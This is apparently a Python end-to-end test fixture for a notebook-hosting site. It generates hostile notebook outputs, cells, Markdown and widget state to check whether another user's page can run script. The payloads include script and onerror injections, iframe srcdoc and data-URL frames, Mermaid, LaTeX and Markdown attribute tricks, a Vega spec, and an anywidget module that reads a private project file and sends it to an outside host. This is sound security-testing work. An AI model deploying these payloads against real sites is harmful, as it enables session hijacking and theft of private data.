"""What a stock page of another user lets act as that user, or show harm: one of each kind, each of
which tells a site of its author's what it has got."""

from __future__ import annotations

import json
from typing import Any

from tests.e2e.hostile_outputs import SVG, html, in_attribute, output, run_scripts, tries

WIDGET_VIEW = "application/vnd.jupyter.widget-view+json"
WIDGET_STATE = "application/vnd.jupyter.widget-state+json"


class HostileKinds:
    """`api`: where a file is that only members of its project can read; `site`: the author's."""

    def __init__(self, api: str, site: str) -> None:
        self.api = api
        self.site = site

    def script(self, kind: str) -> str:
        """Reads what it can, and reports it."""
        return tries(self.api, f"{self.site}/ran/{kind}")

    def running(self) -> dict[str, dict[str, Any]]:
        """Outputs whose scripts run, in frames."""
        within = f"<script>{self.script('srcdoc')}</script>"
        return {
            **run_scripts(self.script),
            "srcdoc": html(f'<iframe srcdoc="{in_attribute(within)}"></iframe>'),
            "text-javascript": output({"text/javascript": self.script("text-javascript")}),
            "svg-in-html": html(
                f'{SVG}<image href="data:," onerror="{in_attribute(self.script("svg-in-html"))}"/>'
                "</svg>"
            ),
        }

    def silent(self) -> dict[str, dict[str, Any]]:
        """Outputs of which nothing may run, or it does not matter whether it does."""
        return {
            "svg-onload": html(
                f'<svg onload="{in_attribute(self.script("svg-onload"))}" width="9"></svg>'
            ),
            "data-frame": html(f"<iframe src='{self._data_url('data-frame')}'></iframe>"),
            "data-object": html(f"<object data='{self._data_url('data-object')}'></object>"),
            "vega": output({"application/vnd.vega.v5+json": self._vega("vega")}),
            "vega-only": {
                "output_type": "display_data",
                "data": {"application/vnd.vega.v5+json": self._vega("vega-only")},
                "metadata": {},
            },
            "mermaid": output(
                {
                    "text/vnd.mermaid": "%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%"
                    f'\ngraph TD; a["<img src=x onerror=fetch(`{self.site}/ran/mermaid`)>"]'
                }
            ),
            "html-widget": output({WIDGET_VIEW: {"model_id": "html", "version_major": 2}}),
            "traceback": {
                "output_type": "error",
                "ename": "E",
                "evalue": "e",
                "traceback": [f"<img src=x onerror=\"fetch('{self.site}/ran/traceback')\">"],
            },
            "markdown-script": output(
                {
                    "text/markdown": f"<script>{self.script('markdown-script')}</script>"
                    f'<img src=x onerror="{in_attribute(self.script("markdown-script"))}">'
                }
            ),
            # What follows a value that looks like a target: attributes in what looks like text.
            "markdown-target": output(
                {
                    "text/markdown": '<a rel=x title=" target=">""'
                    " style=animation-name:Toastify__bounceInRight;animation-duration:1s"
                    f" onanimationstart=fetch(`{self.site}/ran/markdown-target`) x=</a>"
                }
            ),
            "latex": output(
                {
                    "text/latex": f"$\\href{{javascript:fetch('{self.site}/ran/latex')}}{{x}}$"
                    f"$\\style{{background:url({self.site}/load/latex)}}{{x}}$"
                }
            ),
            "heights": html(
                "<script>for (const height of [9e4, NaN, -1, '9', null]) "
                "parent.postMessage({fleet: 'frame', height}, '*')</script>"
            ),
        }

    def cells(self) -> list[dict[str, Any]]:
        """Cells that are no code."""
        tag = f'<img src="x" onerror="{in_attribute(self.script("cell"))}">'
        markup = f'{tag}<script>{self.script("cell")}</script><svg onload="alert()"></svg>'
        return [
            {"cell_type": "markdown", "id": "markdown", "metadata": {}, "source": markup},
            {
                "cell_type": "raw",
                "id": "raw",
                "metadata": {"format": "text/html"},
                "source": markup,
            },
            {
                "cell_type": "markdown",
                "id": "attachment",
                "metadata": {},
                "source": "![a](attachment:a.svg) ![b](attachment:b.html)",
                "attachments": {
                    "a.svg": {"image/svg+xml": f"{SVG}<script>{self.script('svg')}</script></svg>"},
                    "b.html": {"text/html": f"<script>{self.script('attachment')}</script>"},
                },
            },
        ]

    def clicked_in_markdown(self) -> str:
        """Markdown with things of class `click`, which do harm when a person clicks them."""
        return (
            f"<a class='click' target='_top' href='{self.site}/left/top'>x</a>\n"
            f"<a class='click' target='_self' href='{self.site}/left/self'>x</a>\n"
            "<a class='click' href='javascript:document.title=`left`'>x</a>\n"
            "<form class='f'><button class='click'>x</button></form>\n"
        )

    def widgets(self) -> dict[str, Any]:
        """State of widgets, as notebooks have it in their metadata."""
        version = "~0.11.*"
        module = {"_model_module": "anywidget", "_model_module_version": version}
        view = {"_view_module": "anywidget", "_view_module_version": version}
        state = {**module, **view, "_model_name": "AnyModel", "_view_name": "AnyView"}
        controls = {"_model_module": "@jupyter-widgets/controls", "_model_module_version": "2.0.0"}
        models = {
            "script": _model("anywidget", version, "AnyModel", state | {"_esm": self.module()}),
            "html": _model(
                "@jupyter-widgets/controls",
                "2.0.0",
                "HTMLModel",
                {
                    **controls,
                    "_model_name": "HTMLModel",
                    "value": f'<img src=x onerror="{in_attribute(self.script("html-widget"))}">',
                },
            ),
        }
        return {WIDGET_STATE: {"version_major": 2, "version_minor": 0, "state": models}}

    def module(self, kind: str = "widget") -> str:
        """The code of an anywidget, which reports the file as soon as the widget is there.

        It does nothing else: its author's page has to stay where it is.
        """
        api, to = json.dumps(self.api), json.dumps(f"{self.site}/ran/{kind}?")
        return (
            f"fetch({api}).then(answer => answer.text())"
            f".then(text => fetch({to} + encodeURIComponent(text), {{mode: 'no-cors'}}));\n"
            "export default { render() {} };"
        )

    def _data_url(self, kind: str) -> str:
        script = self.script(kind).replace("%", "%25").replace("#", "%23").replace("'", "%27")
        return f"data:text/html,<script>{script}</script>"

    def _vega(self, kind: str) -> dict[str, Any]:
        """Reads a file with the reader's cookies, and shows a picture whose address has it."""
        address = f"'{self.site}/ran/{kind}?' + datum.content"
        return {
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "width": 9,
            "height": 9,
            "data": [
                {
                    "name": "stolen",
                    "url": self.api,
                    "format": {"type": "json"},
                    "transform": [{"type": "formula", "as": "to", "expr": address}],
                }
            ],
            "marks": [
                {
                    "type": "image",
                    "from": {"data": "stolen"},
                    "encode": {"enter": {"url": {"field": "to"}}},
                }
            ],
        }


def _model(module: str, version: str, name: str, state: dict[str, Any]) -> dict[str, Any]:
    return {
        "model_module": module,
        "model_module_version": version,
        "model_name": name,
        "state": json.loads(json.dumps(state)),
    }
